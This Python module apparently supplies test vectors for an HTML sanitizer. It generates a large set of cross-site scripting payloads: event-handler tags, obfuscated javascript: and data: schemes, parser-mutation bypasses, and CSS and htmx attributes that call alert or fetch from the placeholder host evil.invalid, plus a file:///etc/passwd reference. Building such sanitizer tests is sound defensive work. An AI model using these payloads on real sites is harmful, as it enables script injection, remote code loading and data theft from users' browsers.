# ruff: noqa: E501 - each line holds whole vectors
"""Ways to make a page of ours run a stranger's script or ask a stranger's server, each as a piece of HTML.

All call `alert` or ask evil.invalid, so that a browser tells when one of them works.
"""

from html import escape

RUN = "alert(1)"
EVIL = "https://evil.invalid/x"

HANDLERS = [
    ("img src=x", "onerror"), ("img src=/static/ui/tresen.svg", "onload"), ("svg", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("body", "onhashchange"), ("body", "onfocus"), ("frameset", "onload"), ("iframe", "onload"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"), ("details open", "ontoggle"), ("details open=", "onbeforetoggle"),
    ("video src=x", "onerror"), ("video><source", "onerror"), ("audio src=x", "onerror"), ("object data=x", "onerror"),
    ("embed src=x", "onload"), ("marquee", "onstart"), ("marquee loop=1 width=0", "onfinish"), ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"), ("style", "onload"), ("p style=animation:x", "onanimationstart"),
    ("p style=transition:all", "ontransitionend"), ("div contenteditable autofocus", "onfocus"), ("p tabindex=0 autofocus", "onfocus"),
    ("dialog open", "oncancel"), ("form", "onformdata"), ("p", "onpointerover"), ("p", "onmouseenter"), ("a href=#", "onclick"),
    ("x", "onfocusin"), ("p", "onscrollend"), ("div", "onwheel"), ("p draggable=true", "ondragstart"), ("p", "oncopy"),
    ("track", "onerror"), ("canvas", "oncontextlost"), ("menu", "onshow"), ("p popover", "onbeforetoggle"),
]  # fmt: skip
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\nscript:alert(1)",
    "java\tscript:alert(1)", "java\rscript:alert(1)", "\x01javascript:alert(1)", "\u2028javascript:alert(1)",
    "\u2029javascript:alert(1)", "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript://%0aalert(1)", "javascript:/*--></title>*/alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "vbscript:alert(1)",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "blob:alert(1)",
    "about:blank#javascript:alert(1)", "http:javascript:alert(1)", "https:\\\\evil.invalid\\x", "//evil.invalid/x",
    "/\\evil.invalid/x", "///evil.invalid/x", "https://evil.invalid/x\u2028", "cid:x\" onerror=\"alert(1)",
    "/desk/attachments/1/x\" onerror=\"alert(1)", "/desk/attachments/1/../../logout", "file:///etc/passwd",
]  # fmt: skip
CARRIERS = [
    '<img src="{}">', '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">',
    '<form action="{}"><input type=submit autofocus></form>', '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>', '<math href="{}">x</math>', '<base href="{}">',
    '<link rel=import href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<area href="{}">',
    '<video poster="{}"></video>', '<table background="{}"><tr><td>x</table>', '<body background="{}">',
    '<input type=image src="{}">', '<svg><use href="{}"/></svg>', '<svg><image href="{}"/></svg>', '<q cite="{}">x</q>',
    '<a href="#" ping="{}">x</a>', '<img srcset="{} 1x">', '<picture><source srcset="{}"><img></picture>',
    '<svg><script href="{}"/></svg>', '<svg><feImage href="{}"/></svg>', '<link rel=prefetch href="{}">',
    '<link rel=preconnect href="{}">', '<script src="{}"></script>', '<portal src="{}"></portal>', '<frame src="{}">',
]  # fmt: skip
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><style><!--</style><p title='--><img src=x onerror=alert(1)>'></foreignObject></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<template><template><img src=x onerror=alert(1)></template></template>",
    "<select><noscript></select><script>alert(1)</script>", "<select><template><style><!--</style><a title='--><img src onerror=alert(1)>'>",
    "<table><td><svg><desc><td></desc></svg><style><title></style><img src onerror=alert(1)></title></table>",
    "<svg><style>&lt;/style>&lt;img src=x onerror=alert(1)>", "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<a title=\"`\"><img alt=\"`><script>alert(1)</script>\">", "<img alt=\"--><script>alert(1)</script>\">", "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<? foo='><script>alert(1)</script>'>", "</p title='><script>alert(1)</script>'>", "<image src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<a><b><a><p></b><script>alert(1)</script>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>", "<svg><discard onbegin=alert(1)>",
    "<svg><handler type=text/javascript>alert(1)</handler>", "<svg><script>alert&lpar;1)</script>", "<svg/onload=alert(1)//",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<img/src/onerror=alert(1)>",
    "<img\x0conerror=alert(1)\x0csrc=x>", "<img src=x onerror\n=\nalert(1)>", "<img src=`x`onerror=alert(1)>", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x00>alert(1)</script>", "<script>alert(1)", "<SCRIPT/XSS>alert(1)</SCRIPT>",
    "<script type=module>alert(1)</script>", "<script type=text/template>x</script><img src=x onerror=alert(1)>", "\"'><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<img src=x:x onerror=&#97;lert(1)>", "<a href=x onclick=alert(1) href=y>x</a>",
]  # fmt: skip
STYLES = [
    "@import 'https://evil.invalid/x';", "@import url(https://evil.invalid/x);", "@\\69mport 'https://evil.invalid/x';",
    "@font-face{font-family:f;src:url(https://evil.invalid/f)}p{font-family:f}", "p{background:url(https://evil.invalid/x)}",
    "p{background:u\\72l(https://evil.invalid/x)}", "p{background:image-set('https://evil.invalid/x' 1x)}",
    "p{background:-webkit-image-set(url(https://evil.invalid/x) 1x)}", "p{background:cross-fade(url(https://evil.invalid/x),url(x),50%)}",
    "p{background:-webkit-cross-fade(url(https://evil.invalid/x),url(x),50%)}", "p{list-style-image:url(//evil.invalid/x)}",
    "p{border-image:url(//evil.invalid/x)}", "p{cursor:url(//evil.invalid/x),auto}", "p{content:url(//evil.invalid/x)}",
    "p::before{content:url(//evil.invalid/x)}", "p{filter:url(//evil.invalid/x#f)}", "p{mask:url(//evil.invalid/x#m)}",
    "p{clip-path:url(//evil.invalid/x#c)}", "p{shape-outside:url(//evil.invalid/x)}", "p{offset-path:url(//evil.invalid/x)}",
    "p{--a:url(//evil.invalid/x);background:var(--a)}", "p{background:url(/**/https://evil.invalid/x)}", "@namespace url(https://evil.invalid/x);",
    "p{behavior:url(x.htc)}", "p{-moz-binding:url(//evil.invalid/x#x)}", "p{width:expression(alert(1))}", "</style><script>alert(1)</script>",
    "<!--</style><img src=x onerror=alert(1)>-->", "@charset 'x';@import '//evil.invalid/x';", "@media all{@import '//evil.invalid/x';}",
    "@supports(display:block){p{background:url(//evil.invalid/x)}}", "p{background:url('//evil.invalid/x'", "*{position:fixed;inset:0;z-index:99999}",
]  # fmt: skip
OURS = [
    "<div hx-get=https://evil.invalid/x hx-trigger=load>x</div>", "<div data-hx-get=//evil.invalid/x data-hx-trigger=load>x</div>",
    "<div hx-on::load=alert(1) hx-on:click=alert(1)>x</div>", "<div hx-trigger='load[alert(1)]' hx-get=/desk/>x</div>",
    "<button data-from=//evil.invalid/x popovertarget=menu-message autofocus>x</button>", "<p id=desk data-live=//evil.invalid/x>x</p>",
    "<div id=timeline data-seen=x><div id=composer>x</div></div>", "<form id=composer action=//evil.invalid/x><input name=csrfmiddlewaretoken>",
    "<img name=body><img name=cookie><form name=documentElement>", "<a id=htmx><a id=htmx name=config href=cid:x>x</a>",
    "<meta name=htmx-config content='{\"allowScriptTags\":true}'>", "<p class=message-frame>x</p>", "<div data-dialog=keys data-copy=x data-fold>x</div>",
    "<article class='message ours' id=m-1>x</article>", "<script type=application/json id=words>{}</script>", "<html manifest=//evil.invalid/x>",
    "<object type=text/x-scriptlet data=//evil.invalid/x></object>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>", "<iframe src=/desk/ name=top></iframe>", "<a href=//evil.invalid/x target=_top id=x>x</a>",
    "<link rel=stylesheet href=//evil.invalid/x>", "<link rel=dns-prefetch href=//evil.invalid>", "<meta http-equiv=Link content='<//evil.invalid/x>; rel=preload'>",
    "<meta http-equiv=Set-Cookie content='csrf=x'>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">", "<base target=_top>",
]  # fmt: skip


def vectors() -> list[str]:
    """All of them, each once, in a stable order."""
    made = [f"<{tag} {handler}={RUN}>" for tag, handler in HANDLERS]
    made += [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
    made += [carrier.format(EVIL) for carrier in CARRIERS]
    made += [carrier.format("javascript:alert(1)") for carrier in CARRIERS]
    made += [*MUTATIONS, *OURS]
    for style in STYLES:
        made += [f"<style>{style}</style><p>x</p>"]
        if style.startswith("p{"):
            made.append(f'<p style="{escape(style[2:].rstrip("}"))}">x</p>')
    return list(dict.fromkeys(made))
